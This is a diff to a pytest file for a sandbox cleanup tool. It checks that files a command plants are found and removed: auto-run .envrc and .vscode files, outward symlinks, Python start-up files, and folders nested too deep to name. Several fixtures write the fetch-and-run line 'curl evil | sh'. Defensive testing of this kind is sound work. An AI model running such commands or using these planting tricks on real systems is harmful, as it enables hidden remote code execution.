@@ -47,7 +47,8 @@ def test_what_a_command_plants_past_any_count_of_names_goes(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """Folders read a share at a time, and more of them open at once than the walk keeps
     open: each plant is found, however late in the names and however deep."""
-    monkeypatch.setattr(box_walk, "_SHARE", 3)
+    monkeypatch.setattr(box_walk, "_SHARE_LEAST", 1)
+    monkeypatch.setattr(box_walk, "_NAMES", 3)
     monkeypatch.setattr(box_walk, "_OPEN_MOST", 2)
     after, lists = _after(tmp_path)
     deep = tmp_path
@@ -169,3 +170,167 @@ def test_a_mass_made_by_a_command_hides_nothing_and_stops_no_later_call(
                            text=True, timeout=120, check=False)
     assert again.stdout == "again\n", again.stderr
     assert time.monotonic() - started < 100
+
+
+def _deep(top: Path, levels: int, name: str) -> int:
+    """``levels`` folders of ``name`` nested below ``top`` (past what a path can name, by
+    handle, as a command's ``cd`` loop makes them); the deepest one's handle."""
+    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
+    for _ in range(levels):
+        os.mkdir(name, dir_fd=fd)
+        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+        os.close(fd)
+        fd = inner
+    return fd
+
+
+def test_a_folder_made_too_deep_to_name_is_moved_to_the_top_and_walked(tmp_path: Path) -> None:
+    after, _ = _after(tmp_path)
+    fd = _deep(tmp_path, 25, "a" * 200)
+    os.mkdir(".vscode", dir_fd=fd)
+    with open(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=fd), "w") as out:
+        out.write("curl evil | sh\n")
+    os.close(fd)
+    said = after.undo()
+    assert any("too deep to name" in line for line in said), said
+    lifted = [p for p in tmp_path.iterdir() if p.name.startswith("maker-aside.deep.")]
+    names = {n for _, folders, files, _ in os.fwalk(tmp_path) for n in [*folders, *files]}
+    assert lifted and not names & {".envrc", ".vscode"}, said  # (by handle: no path's bound)
+    assert {"maker-aside..envrc", "maker-aside..vscode"} <= names
+    held = _lists(tmp_path)
+    box_after.After.hold(held)
+    assert held["unfinished"] == []  # (the next call runs)
+
+
+def test_a_new_link_into_a_place_the_walk_skips_goes(tmp_path: Path) -> None:
+    (tmp_path / ".git/x").mkdir(parents=True)
+    (tmp_path / "sub").mkdir()
+    after, _ = _after(tmp_path, laterskip=[str(tmp_path / ".git")])
+    (tmp_path / ".git/x/.envrc").write_text("curl evil | sh\n")
+    (tmp_path / "sub/app").symlink_to("../.git/x")
+    said = after.undo()
+    assert not os.path.lexists(tmp_path / "sub/app"), said
+
+
+def test_a_new_link_to_shared_memory_goes(tmp_path: Path) -> None:
+    shm = Path("/dev/shm")
+    if not shm.is_dir():
+        pytest.skip("no /dev/shm here")
+    import tempfile
+
+    other = Path(tempfile.mkdtemp(dir=shm))
+    try:
+        after, _ = _after(tmp_path)
+        (tmp_path / "app").symlink_to(other)
+        said = after.undo()
+        assert not os.path.lexists(tmp_path / "app") and "leads out" in " ".join(said)
+    finally:
+        other.rmdir()
+
+
+def test_a_conda_envs_start_up_files_a_command_adds_go(tmp_path: Path) -> None:
+    env = tmp_path / ".pixi/envs/default"
+    site = env / "lib/python3.12/site-packages"
+    site.mkdir(parents=True)
+    (env / "conda-meta").mkdir()
+    (env / "conda-meta/history").write_text("\n")
+    after, _ = _after(tmp_path)
+    (site / "zz.pth").write_text("import os\n")
+    (site / "sitecustomize.py").write_text("import os\n")
+    after.undo()
+    assert not (site / "zz.pth").exists() and not (site / "sitecustomize.py").exists()
+
+
+def test_what_the_step_may_make_anywhere_leaves_the_persons_bound(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(box_after, "_BOUND_MOST", 2)
+    for n in range(3):  # (a step adding submodules made these: its own to make)
+        (tmp_path / f"apps/a{n}").mkdir(parents=True)
+        (tmp_path / f"apps/a{n}/head").write_text("ref\n")
+    (tmp_path / "web/.vscode").mkdir(parents=True)
+    lists = _lists(tmp_path, laterokname=[".git", "head"])
+    box_after.After.hold(lists)
+    assert str(tmp_path / "web/.vscode") in lists["bound"], lists["bound"]
+
+
+def test_a_link_deep_below_the_top_is_not_followed_and_a_new_one_goes(tmp_path: Path) -> None:
+    deep = tmp_path / "/".join(["d"] * (box_walk._DEEPEST + 2))
+    deep.mkdir(parents=True)
+    after, _ = _after(tmp_path)
+    (tmp_path / "link").symlink_to(deep)
+    started = time.monotonic()
+    said = after.undo()
+    assert not os.path.lexists(tmp_path / "link"), said
+    assert time.monotonic() - started < 5
+
+
+def test_an_undo_that_did_not_finish_stops_the_next_call(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What the command left is not taken as the person's by the next call's walk."""
+    after, _ = _after(tmp_path)
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub/.envrc").write_text("curl evil | sh\n")
+    monkeypatch.setattr(after, "_deeper", lambda: (_ for _ in ()).throw(MemoryError()))
+    said = after.undo()
+    assert any("could not finish" in line for line in said), said
+    monkeypatch.undo()
+    _, lists = _after(tmp_path)
+    assert lists["unfinished"] and "did not finish" in lists["unfinished"][0]
+    assert "maker-undo-unfinished" in lists["unfinished"][0]
+
+
+def test_deep_and_wide_the_names_held_stay_within_their_bound(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """However many folders each level holds, the folders being read hold a share each,
+    half as many a level deeper: twice ``_NAMES`` in all, and a least share a level."""
+    monkeypatch.setattr(box_walk, "_NAMES", 64)
+    monkeypatch.setattr(box_walk, "_SHARE_LEAST", 2)
+    level = tmp_path
+    for _ in range(7):
+        for n in range(100):
+            (level / f"w{n:02}").mkdir()
+        level = level / "w99"  # (listed last below: walked first, all the others waiting)
+    (level / ".envrc").write_text("x\n")
+    scandir, read, folders, most = os.scandir, box_walk._Walker._read, {}, [0]
+
+    class Sorted:  # (the names in order, whatever order the file system keeps)
+        def __init__(self, path: str) -> None:
+            with scandir(path) as listing:
+                self.entries = iter(sorted(listing, key=lambda e: e.name))
+
+        def __iter__(self) -> Sorted:
+            return self
+
+        def __next__(self) -> os.DirEntry[str]:
+            return next(self.entries)
+
+        def close(self) -> None:
+            pass
+
+    def counted(walker: box_walk._Walker, folder: box_walk._Folder, share: int) -> None:
+        read(walker, folder, share)
+        folders[id(folder)] = folder
+        most[0] = max(most[0], sum(len(f.pending) for f in folders.values()))
+
+    monkeypatch.setattr(box_walk.os, "scandir", Sorted)
+    monkeypatch.setattr(box_walk._Walker, "_read", counted)
+    walk = below(str(tmp_path), _lists(tmp_path))
+    assert list(walk.found) == [str(level / ".envrc")]
+    assert 0 < most[0] <= 2 * 64 + 2 * 8, most  # (every name at once: 700)
+
+
+def test_a_plant_whose_path_is_too_long_to_name_whole_goes(tmp_path: Path) -> None:
+    after, _ = _after(tmp_path)
+    room = 4090 - len(os.fsencode(str(tmp_path)))  # (its folder's path: 4,090 bytes)
+    levels = (room - 2) // 201
+    fd = _deep(tmp_path, levels, "b" * 200)
+    last = "c" * (room - levels * 201 - 1)  # (1 to 201 bytes)
+    os.mkdir(last, dir_fd=fd)
+    inner = os.open(last, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+    with open(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=inner), "w") as out:
+        out.write("curl evil | sh\n")
+    os.close(inner)
+    os.close(fd)
+    said = after.undo()
+    names = {n for _, _, files, _ in os.fwalk(tmp_path) for n in files}
+    assert names == {"maker-aside..envrc"}, said
